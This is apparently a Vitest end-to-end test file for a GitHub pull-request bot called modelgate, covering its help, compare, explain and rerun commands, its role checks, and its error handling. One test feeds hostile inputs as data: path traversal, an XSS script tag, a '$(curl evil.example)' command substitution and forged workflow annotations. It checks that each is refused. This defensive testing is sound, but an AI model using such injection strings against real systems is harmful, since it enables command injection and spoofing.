import { describe, expect, it } from 'vitest'
import { type Conversation, conversation, hear, runBoth, type SayOptions, say } from '../e2e/comment-event.ts'
import { withParams } from '../e2e/project.ts'
import { runAndKeep } from '../e2e/stored-run.ts'

const helpTable = '| Command | Takes the role |'
/** Without the marks that keep GitHub from making links and Markdown from doing anything. */
const plain = (body = ''): string => body.replace(/\u2060|\\(?=[_`])/g, '')
const done = (command: string): object => ({ command, outcome: 'done' })
const refused = (command: string): object => ({ command, outcome: 'refused' })

describe('/modelgate help', () => {
  it('lists the commands in one answer, which names who asked without calling them', async () => {
    const scene = await conversation()
    const { result, asked, answers, reactions } = await say(scene, '/modelgate help\r\n\r\nplease')
    expect(result.exitCode).toBe(0)
    expect(result.outputs).toEqual({
      ...done('help'),
      'answer-url': `https://github.com/octo/income/pull/7#issuecomment-${answers[0]?.id}`,
    })
    expect(reactions).toEqual(['eyes', '+1'])
    expect(answers).toHaveLength(1)
    expect(answers[0]?.body).toMatch(
      new RegExp(
        `^> \`lea\` gave \`/modelgate help\` in \\[this comment\\]\\(https://github\\.com/octo/income/pull/7#issuecomment-${asked.id}\\)\\. Head of the pull request: \`${scene.head.slice(0, 12)}\`\\.\n`,
      ),
    )
    expect(answers[0]?.body).toContain('| `/modelgate compare <ref>` | `write` |')
    expect(answers[0]?.body.endsWith(`<!-- modelgate:comment key=command-${asked.id} -->`)).toBe(true)
    expect(result.summary).toContain(helpTable)
  })

  it('is what a bare /modelgate means', async () => {
    const { result } = await say(await conversation(), '/modelgate  ')
    expect(result.outputs).toMatchObject(done('help'))
  })

  it('is brought up to date by a job that is run again', async () => {
    const scene = await conversation()
    const { asked } = await say(scene, '/modelgate help')
    const again = await hear(scene, asked)
    expect(again.answers).toHaveLength(1)
    expect(again.reactions).toEqual(['eyes', '+1'])
  })

  it.each([502, 500])('is one answer when GitHub answers %i after it wrote it', async (status) => {
    const scene = await conversation()
    scene.server.faults.push({
      method: 'POST',
      path: /issues\/7\/comments/,
      timing: 'after',
      answer: { status, message: 'Oops' },
    })
    const { result, answers } = await say(scene, '/modelgate help')
    expect(result.outputs).toMatchObject(done('help'))
    expect(answers).toHaveLength(1)
    expect(result.outputs['answer-url']).toContain(String(answers[0]?.id))
  })

  it('is one answer under a personal token too, whose account the reaction tells', async () => {
    const scene = await conversation()
    scene.server.addUser('pat', 'gatekeeper', [scene.repository], ['contents: read', 'pull-requests: write'])
    const { asked } = await say(scene, '/modelgate help', { token: 'pat' })
    await hear(scene, asked, { token: 'pat' })
    expect(scene.repository.comments.filter(({ login }) => login === 'gatekeeper')).toHaveLength(1)
  })
})

describe('what is no command', () => {
  // All the others are in test/github/chat/addressee.test.ts.
  it.each([
    [
      'an edited comment',
      '/modelgate help',
      { change: (payload) => Object.assign(payload, { action: 'edited' }) },
      'only a new comment is a command',
    ],
    ['one of a bot', '/modelgate help', { login: 'helper[bot]' }, 'bots give no commands'],
    ['a conversation about it', 'Try /modelgate help', {}, 'the comment is not for modelgate'],
  ] satisfies [string, string, SayOptions, string][])(
    '%s ends with one line of log and no request',
    async (_what, body, options, reason) => {
      const scene = await conversation()
      const { result, answers, reactions } = await say(scene, body, options)
      expect(result.exitCode).toBe(0)
      expect(result.outputs).toEqual({ command: '', outcome: 'ignored', 'answer-url': '' })
      expect(result.stdout.replace(/^::.*\n|\n$/gm, '').trim()).toBe(`Nothing to do: ${reason}.`)
      expect([scene.server.calls, answers, reactions, result.annotations]).toEqual([[], [], [], []])
    },
  )
})

describe('whoever has not the role', () => {
  it.each([
    ['mallory', '/modelgate help', 'triage'],
    ['rob', '/modelgate explain model.threshold.accuracy', 'triage'],
    ['tia', '/modelgate compare main', 'write'],
    ['tia', '/modelgate rerun', 'write'],
    ['mallory', '/modelgate <img src=x> @lea', 'triage'],
  ])('%s with "%s": one short refusal, and no other request', async (login, body, role) => {
    const scene = await conversation()
    const { result, answers, reactions } = await say(scene, body, { login })
    expect(result.exitCode).toBe(0)
    expect(result.outputs).toMatchObject({ outcome: 'refused' })
    expect(reactions).toEqual(['-1'])
    expect(answers.map((answer) => answer.body.split('\n')[2])).toEqual([
      `This takes the role \`${role}\` in this repository.`,
    ])
    expect(scene.server.calls.map((call) => call.replace(/\?.*/, ''))).toEqual([
      `GET /repos/octo/income/collaborators/${login}/permission`,
      expect.stringMatching(/^POST .*\/reactions$/),
      'GET /repos/octo/income/issues/7/comments',
      'POST /repos/octo/income/issues/7/comments',
    ])
  })

  it('gets one refusal in each pull request, however often he asks', async () => {
    const scene = await conversation()
    await say(scene, '/modelgate help', { login: 'mallory' })
    const { answers, reactions } = await say(scene, '/modelgate help', { login: 'Mallory' })
    expect(answers).toHaveLength(1)
    expect(reactions).toEqual(['-1'])
  })

  it('is not known when GitHub does not say it, and gets no answer', async () => {
    const scene = await conversation()
    for (let time = 0; time < 4; time += 1)
      scene.server.faults.push({
        method: 'GET',
        path: /permission$/,
        timing: 'before',
        answer: { status: 403, message: 'Forbidden for now' },
      })
    const { result, answers, reactions } = await say(scene, '/modelgate help')
    scene.server.faults.length = 0
    expect(result.exitCode).toBe(1)
    expect([answers, reactions]).toEqual([[], []])
    expect(result.annotations[0]?.message).toContain('The role of whoever asks is not known.')
  })
})

describe('a command that is not understood', () => {
  // All the others are in test/github/chat/grammar.test.ts.
  it.each([
    ['/modelgate reurn', 'There is no command `reurn`. Did you mean `/modelgate rerun`?'],
    ['/modelgate compare main --upload-pack=x', '`compare` takes one word and got more.'],
  ])('%j is answered with what is wrong and the table', async (body, problem) => {
    const { result, answers, reactions } = await say(await conversation(), body)
    expect(result).toMatchObject({ exitCode: 0, outputs: { outcome: 'refused' } })
    expect(reactions).toEqual(['confused'])
    expect(answers[0]?.body).toContain(problem)
    expect(answers[0]?.body).toContain(helpTable)
  })

  it('reaches no request, and nothing of it is repeated', async () => {
    const scene = await conversation()
    const bodies = [
      '/modelgate compare ../../../issues/7/lock',
      '/modelgate compare main?x=1#y',
      '/modelgate explain ![x](https://evil.example/x.png)',
      '/modelgate @octo/owners <script>alert(1)</script>',
      '/modelgate rerun $(curl evil.example)\n::error::forged\n##[error]forged',
    ]
    for (const body of bodies) {
      const { result, answers } = await say(scene, body)
      expect(result).toMatchObject({ exitCode: 0, annotations: [], outputs: { outcome: 'refused' } })
      const answer = answers.at(-1)?.body.split('| Command |')[0] ?? ''
      expect(answer).not.toMatch(/evil|lock|script|octo\/owners|[@$]|!\[|forged/)
    }
    const allowed =
      /^(?:GET \/repos\/octo\/income\/collaborators\/lea\/permission|(?:GET|POST) \/repos\/octo\/income\/issues\/(?:7\/comments(?:\?per_page=100&page=1)?|comments\/\d+\/reactions))$/
    expect(scene.server.calls.filter((call) => !allowed.test(call))).toEqual([])
  })
})

describe('/modelgate compare', () => {
  it('answers with the report against another commit, and changes nothing else', async () => {
    const scene = await conversation(withParams(35))
    const { ofBase, ofHead } = await runBoth(scene)
    scene.server.requests.length = 0
    const { result, answers, reactions } = await say(scene, '/modelgate compare main', { login: 'wim' })
    expect(result.outputs).toMatchObject(done('compare'))
    expect(reactions).toEqual(['eyes', '+1'])
    const body = plain(answers[0]?.body)
    expect(body).toContain(
      `Compared: [run ${ofHead}](https://github.com/octo/income/actions/runs/${ofHead}) of the head \`${scene.head.slice(0, 7)}\`, with \`main\` (commit \`${scene.base.slice(0, 7)}\`). This was asked for and changes no check and no verdict`,
    )
    expect(body).toContain('## ❌ `tiny`: fail (blocked)')
    expect(body).toContain(`stored run ${ofBase} (push) of commit ${scene.base.slice(0, 7)}`)
    expect(result.exitCode).toBe(0)
    expect([scene.repository.checkRuns, scene.repository.statuses]).toEqual([[], []])
    const writes = scene.server.calls.filter((call) => !call.startsWith('GET'))
    expect(writes.filter((call) => !/\/(?:reactions|comments)$/.test(call))).toEqual([])

    const byCommit = await say(scene, `/modelgate compare ${scene.base.slice(0, 7)}`)
    expect(plain(byCommit.answers[1]?.body)).toContain(`, with \`${scene.base.slice(0, 7)}\`. This was asked for`)
    const unknown = await say(scene, '/modelgate compare v9.9')
    expect(unknown.result).toMatchObject({ exitCode: 0, outputs: refused('compare') })
    expect(plain(unknown.answers[2]?.body)).toContain('"v9.9" is no branch, tag or commit of this repository.')
    const without = await say(scene, '/modelgate compare change')
    expect(without.result.outputs).toMatchObject(refused('compare'))
    expect(plain(without.answers[3]?.body)).toMatch(
      /There is no stored run of `change` \(commit `\w{7}`\) to compare with: run \d+ was not made from change itself but by pull_request/,
    )
    const [first] = scene.repository.artifacts.splice(0, 1)
    const none = await say(scene, '/modelgate compare main')
    if (first !== undefined) scene.repository.artifacts.unshift(first)
    expect(plain(none.answers[4]?.body)).toContain(
      `no run of commit ${scene.base.slice(0, 7)} kept an artifact "modelgate".`,
    )
  })

  it('says so when no run of the head kept anything, or when it has expired', async () => {
    const scene = await conversation()
    const before = await say(scene, '/modelgate compare main')
    expect(before.result).toMatchObject({ exitCode: 0, outputs: refused('compare') })
    expect(before.reactions).toEqual(['eyes', 'confused'])
    expect(plain(before.answers[0]?.body)).toContain(
      `No run of the head ${scene.head.slice(0, 7)} kept an artifact "modelgate".`,
    )
    await runBoth(scene)
    scene.server.world.advance(91 * 86_400_000)
    const after = await say(scene, '/modelgate compare main')
    expect(after.result).toMatchObject({ exitCode: 0, outputs: refused('compare') })
    expect(plain(after.answers[1]?.body)).toMatch(/The artifact \d+ has expired on /)
  })
})

describe('/modelgate explain', () => {
  it('puts a rule into words: what it asks, what was seen, why, and what may be done', async () => {
    const scene = await conversation(withParams(13, 50))
    const { ofBase, ofHead } = await runBoth(scene)
    const { result, answers, reactions } = await say(scene, '/modelgate explain model.non-inferior.accuracy', {
      login: 'tia',
    })
    expect(result).toMatchObject({ exitCode: 0, outputs: done('explain') })
    expect(reactions).toEqual(['eyes', '+1'])
    const body = plain(answers[0]?.body)
    expect(body).toContain(`Judged again from [run ${ofHead}]`)
    expect(body).toContain(
      `The checkpoints are those of the base branch \`main\`. Baseline: stored run ${ofBase} (push)`,
    )
    expect(body).toContain('### `model.non-inferior.accuracy`: ❔\u00a0inconclusive (needs approval)')
    expect(body).toContain('| Asks for | accuracy not worse than the baseline by more than 0.05 |')
    expect(body).toMatch(
      /\| Would settle it \| about [\d,]+ rows in place of [\d,]+, if the numbers stay as they are \|/,
    )
    expect(body).toContain(
      '| Leads to | the change is stopped until somebody approves (`on-inconclusive: approve`, `level: block`) |',
    )
    expect(body).toContain(
      '[`modelgate.yaml`, line 18](https://github.com/octo/income/blob/main/modelgate.yaml#L18), on the base branch `main`',
    )
    expect(body).toContain('| **else** | **inconclusive** | ◀ this one |')

    const wrong = await say(scene, '/modelgate explain model.non-inferior.acuracy')
    expect(wrong.result.outputs).toMatchObject(refused('explain'))
    expect(plain(wrong.answers[1]?.body)).toContain('Did you mean `model.non-inferior.accuracy`?')
    expect(plain(wrong.answers[1]?.body)).toContain('- `model.threshold.accuracy`')
  })
})

describe('a pull request from a fork', () => {
  it('is explained from its run, and a run for the same commit in another repository does not count', async () => {
    const scene = await conversation(withParams(35))
    const { server, repository, project, head } = scene
    const fork = server.addRepository('mallory/income', { forkOf: 'octo/income' })
    await fork.git.run(['fetch', '--quiet', repository.git.folder, 'refs/heads/change:refs/heads/evil'])
    const pull = repository.issues.find(({ number }) => number === 7)?.pull
    if (pull !== undefined) Object.assign(pull, { headRepository: 'mallory/income', headRef: 'evil' })
    await server.world.syncPulls(fork)
    const run = { event: 'pull_request', headSha: head, headBranch: 'evil' }
    await runAndKeep(scene, project, { commit: head, run })
    const before = await say(scene, '/modelgate explain model.threshold.accuracy')
    expect(plain(before.answers[0]?.body)).toContain(`No run of the head ${head.slice(0, 7)} kept an artifact`)
    await runAndKeep(scene, project, { commit: head, run: { ...run, headRepository: 'mallory/income' } })
    const { result, answers } = await say(scene, '/modelgate explain model.threshold.accuracy')
    expect(result).toMatchObject({ exitCode: 0, outputs: done('explain') })
    expect(answers[1]?.body).toContain('### `model.threshold.accuracy`: ❌\u00a0fail')
  })
})

async function completed(scene: Conversation, run: Parameters<Conversation['repository']['addRun']>[0]) {
  return scene.repository.addRun({ status: 'completed', conclusion: 'failure', headBranch: 'change', ...run })
}

describe('/modelgate rerun', () => {
  it('without the head does nothing, and gives the line to confirm with', async () => {
    const scene = await conversation()
    const run = await completed(scene, { headSha: scene.head })
    const { result, answers, reactions } = await say(scene, '/modelgate rerun')
    expect(result).toMatchObject({ exitCode: 0, outputs: refused('rerun') })
    expect(reactions).toEqual(['eyes', 'confused'])
    expect(answers[0]?.body).toContain(`\`\`\`text\n/modelgate rerun ${scene.head}\n\`\`\``)
    expect(run.attempt).toBe(1)
    const confirmed = await say(scene, `/modelgate rerun ${scene.head}`)
    expect(confirmed.result.outputs).toMatchObject(done('rerun'))
    expect(run).toMatchObject({ attempt: 2, status: 'queued' })
  })

  it.each([
    ['failure', 'the failed jobs', ['queued', 'completed']],
    ['success', 'all jobs', ['queued', 'queued']],
  ])('after %s runs %s again', async (conclusion, extent, statuses) => {
    const scene = await conversation()
    const run = await completed(scene, {
      headSha: scene.head,
      conclusion,
      jobs: [
        { id: 8, name: 'gate', status: 'completed', conclusion, attempt: 1 },
        { id: 9, name: 'train', status: 'completed', conclusion: 'success', attempt: 1 },
      ],
    })
    const { result, answers, reactions } = await say(scene, `/modelgate rerun ${scene.head.slice(0, 7)}`)
    expect(result).toMatchObject({ exitCode: 0, outputs: done('rerun') })
    expect(reactions).toEqual(['eyes', 'rocket'])
    expect(answers[0]?.body).toContain(`runs again, ${extent}. It ended as \`${conclusion}\` before.`)
    expect(run.jobs.filter(({ attempt }) => attempt === 2).map(({ status }) => status)).toEqual(statuses)
  })

  it.each([
    ['another commit', (head: string) => head.replace(/^./, (digit) => (digit === 'f' ? '0' : 'f')).slice(0, 10)],
    ['more digits than are right', (head: string) => `${head.slice(0, 39)}${head.endsWith('0') ? '1' : '0'}`],
  ])('with %s does nothing', async (_what, wrong) => {
    const scene = await conversation()
    const run = await completed(scene, { headSha: scene.head })
    const { result, answers } = await say(scene, `/modelgate rerun ${wrong(scene.head)}`)
    expect(result.outputs).toMatchObject(refused('rerun'))
    expect(answers[0]?.body).toContain(`Nothing was done: the head is not \`${wrong(scene.head)}\`.`)
    expect(run.attempt).toBe(1)
  })

  it('does nothing when the head moves between the look and the effect', async () => {
    const scene = await conversation()
    const run = await completed(scene, { headSha: scene.head })
    scene.server.faults.push({
      method: 'GET',
      path: /actions\/runs\?/,
      timing: 'after',
      answer: { meanwhile: () => scene.repository.commit('change', { 'late.txt': 'pushed\n' }) },
    })
    const { result, answers, reactions } = await say(scene, `/modelgate rerun ${scene.head}`)
    expect(result).toMatchObject({ exitCode: 0, outputs: refused('rerun') })
    expect(reactions).toEqual(['eyes', 'confused'])
    expect(plain(answers[0]?.body)).toMatch(/The head moved from \w{7} to \w{7} meanwhile, so nothing was done\./)
    expect(run.attempt).toBe(1)
    expect(scene.server.calls.filter((call) => /rerun/.test(call))).toEqual([])
  })

  it('says that a run is in progress', async () => {
    const scene = await conversation()
    await completed(scene, { headSha: scene.head })
    await completed(scene, { headSha: scene.head, status: 'in_progress', conclusion: null })
    const { result, answers } = await say(scene, `/modelgate rerun ${scene.head}`)
    expect(result).toMatchObject({ exitCode: 0, outputs: refused('rerun') })
    expect(answers[0]?.body).toContain('is in progress already.')
    expect(scene.server.calls.filter((call) => /rerun/.test(call))).toEqual([])
  })

  it('leaves a run alone that waits for an approval', async () => {
    const scene = await conversation()
    await completed(scene, { headSha: scene.head, conclusion: 'action_required' })
    const { answers } = await say(scene, `/modelgate rerun ${scene.head}`)
    expect(answers[0]?.body).toContain('waits for somebody to approve it')
    expect(scene.server.calls.filter((call) => /rerun/.test(call))).toEqual([])
  })

  it('takes the workflow that keeps the artifact, and neither another nor a run of another event or head', async () => {
    const scene = await conversation()
    await runAndKeep(scene, scene.project, { commit: scene.base, run: { path: '.github/workflows/model.yml' } })
    const right = await completed(scene, { headSha: scene.head, path: '.github/workflows/model.yml@refs/pull/7/merge' })
    const wrong = [
      await completed(scene, { headSha: scene.head, path: '.github/workflows/lint.yml' }),
      await completed(scene, { headSha: scene.head, path: '.github/workflows/model.yml', event: 'push' }),
      await completed(scene, { headSha: scene.base, path: '.github/workflows/model.yml' }),
    ]
    const { result } = await say(scene, `/modelgate rerun ${scene.head}`)
    expect(result.outputs).toMatchObject(done('rerun'))
    expect([right.attempt, ...wrong.map(({ attempt }) => attempt)]).toEqual([2, 1, 1, 1])
  })

  it('leaves a choice to whoever asks', async () => {
    const scene = await conversation()
    const runs = [
      await completed(scene, { headSha: scene.head }),
      await completed(scene, { headSha: scene.head, path: '.github/workflows/lint.yml' }),
    ]
    const { result, answers } = await say(scene, `/modelgate rerun ${scene.head}`)
    expect(result.outputs).toMatchObject(refused('rerun'))
    for (const { id } of runs)
      expect(answers[0]?.body).toContain(`- [Run ${id}](https://github.com/octo/income/actions/runs/${id})`)
    expect(runs.map(({ attempt }) => attempt)).toEqual([1, 1])
    scene.repository.runs.length = 0
    expect((await say(scene, `/modelgate rerun ${scene.head}`)).answers[1]?.body).toContain(
      'so there is nothing to run again',
    )
  })

  it('runs the run of a fork again', async () => {
    const scene = await conversation()
    const { server, repository } = scene
    const fork = server.addRepository('mallory/income', { forkOf: 'octo/income' })
    await fork.git.run(['fetch', '--quiet', repository.git.folder, 'refs/heads/change:refs/heads/evil'])
    const head = await fork.commit('evil', { 'x.txt': 'x' })
    const pull = repository.issues.find(({ number }) => number === 7)?.pull
    if (pull !== undefined) Object.assign(pull, { headRepository: 'mallory/income', headRef: 'evil' })
    await server.world.syncPulls(fork)
    const run = await completed(scene, { headSha: head, headBranch: 'evil', headRepository: 'mallory/income' })
    const twin = await completed(scene, { headSha: head, headBranch: 'evil' })
    const { result } = await say(scene, `/modelgate rerun ${head}`)
    expect(result.outputs).toMatchObject(done('rerun'))
    expect([run.attempt, twin.attempt]).toEqual([2, 1])
  })

  it('is sent once: after a lost answer the run tells', async () => {
    const scene = await conversation()
    const run = await completed(scene, { headSha: scene.head })
    const fault = { method: 'POST', path: /rerun/, answer: { status: 502, message: 'Oops' } } as const
    scene.server.faults.push({ ...fault, timing: 'after' })
    const { result } = await say(scene, `/modelgate rerun ${scene.head}`)
    expect(result).toMatchObject({ exitCode: 0, outputs: done('rerun') })
    expect(run.attempt).toBe(2)
    Object.assign(run, { status: 'completed', conclusion: 'failure' })
    for (const job of run.jobs) Object.assign(job, { status: 'completed', conclusion: 'failure' })
    scene.server.faults.push({ ...fault, timing: 'before' })
    const lost = await say(scene, `/modelgate rerun ${scene.head}`)
    expect(lost.result).toMatchObject({ exitCode: 1, outputs: refused('rerun') })
    expect(plain(lost.answers[1]?.body)).toContain('This could not be done. GitHub answered with the server error 502')
    expect(run.attempt).toBe(2)
    expect(scene.server.calls.filter((call) => /POST .*rerun/.test(call))).toHaveLength(2)
  })

  it('passes on why GitHub does not run a run again', async () => {
    const scene = await conversation()
    await completed(scene, { headSha: scene.head })
    const message = 'Unable to re-run this workflow run because it was created over a month ago'
    scene.server.faults.push({ method: 'POST', path: /rerun/, timing: 'before', answer: { status: 403, message } })
    const { result, answers } = await say(scene, `/modelgate rerun ${scene.head}`)
    expect(result).toMatchObject({ exitCode: 0, outputs: refused('rerun') })
    expect(answers[0]?.body).toContain(`again: ${message}. Push again`)
  })

  it('twice at the same time starts one attempt, and has two answers', async () => {
    const scene = await conversation()
    const run = await completed(scene, { headSha: scene.head })
    const both = await Promise.all([1, 2].map(() => say(scene, `/modelgate rerun ${scene.head}`)))
    expect(both.map(({ result }) => result.outputs.outcome).sort()).toEqual(['done', 'refused'])
    expect(run.attempt).toBe(2)
    const { comments } = scene.repository
    expect(comments.filter(({ login }) => login === 'github-actions[bot]')).toHaveLength(2)
  })
})

describe('a permission that the job lacks', () => {
  it('actions: write: the answer names the line to add', async () => {
    const scene = await conversation()
    const run = await completed(scene, { headSha: scene.head })
    scene.server.addJobToken('reader', scene.repository, ['actions: read', 'contents: read', 'pull-requests: write'])
    const { result, answers, reactions } = await say(scene, `/modelgate rerun ${scene.head}`, { token: 'reader' })
    expect(result).toMatchObject({ exitCode: 2, outputs: refused('rerun') })
    expect(plain(answers[0]?.body)).toContain(
      'add `actions: write` under `permissions:` of the job in the workflow file.',
    )
    expect(answers[0]?.body).not.toContain('fork')
    expect(reactions).toEqual(['eyes', 'confused'])
    expect(run.attempt).toBe(1)
  })

  it('actions: read: likewise', async () => {
    const scene = await conversation()
    await runAndKeep({ ...scene }, scene.project, {
      commit: scene.head,
      run: { event: 'pull_request', headSha: scene.head, headBranch: 'change' },
    })
    scene.server.addJobToken('writer', scene.repository, ['contents: read', 'pull-requests: write'])
    const { result, answers } = await say(scene, '/modelgate explain model.threshold.accuracy', { token: 'writer' })
    expect(result.exitCode).toBe(2)
    expect(plain(answers[0]?.body)).toContain('add `actions: read`')
  })

  it('pull-requests: write: the answer is in the summary, and the log names the line for the reaction too', async () => {
    const scene = await conversation()
    scene.server.addJobToken('mute', scene.repository, ['actions: write', 'contents: read'])
    const { result, answers } = await say(scene, '/modelgate help', { token: 'mute' })
    expect(result).toMatchObject({ exitCode: 2, outputs: { command: 'help', outcome: 'done', 'answer-url': '' } })
    expect(answers).toEqual([])
    expect(result.summary).toContain(helpTable)
    expect(result.stdout).toContain(
      'No reaction was added. The token of this job lacks a permission: add `pull-requests: write`',
    )
    expect(result.annotations.map(({ command, message }) => [command, message])).toEqual([
      [
        'error',
        expect.stringContaining(
          'No answer was written. The token of this job lacks a permission: add `pull-requests: write`',
        ),
      ],
    ])
  })

  it('the rate limit: an answer if there is one left for it, else the summary', async () => {
    const scene = await conversation()
    scene.server.faults.push({
      method: 'GET',
      path: /pulls\/7$/,
      timing: 'before',
      answer: { status: 403, message: 'API rate limit exceeded', headers: { 'x-ratelimit-remaining': '0' } },
    })
    const { result, answers } = await say(scene, '/modelgate compare main')
    expect(result).toMatchObject({ exitCode: 1, outputs: refused('compare') })
    expect(answers[0]?.body).toContain("This could not be done. GitHub's rate limit for this token is used up")
  })
})
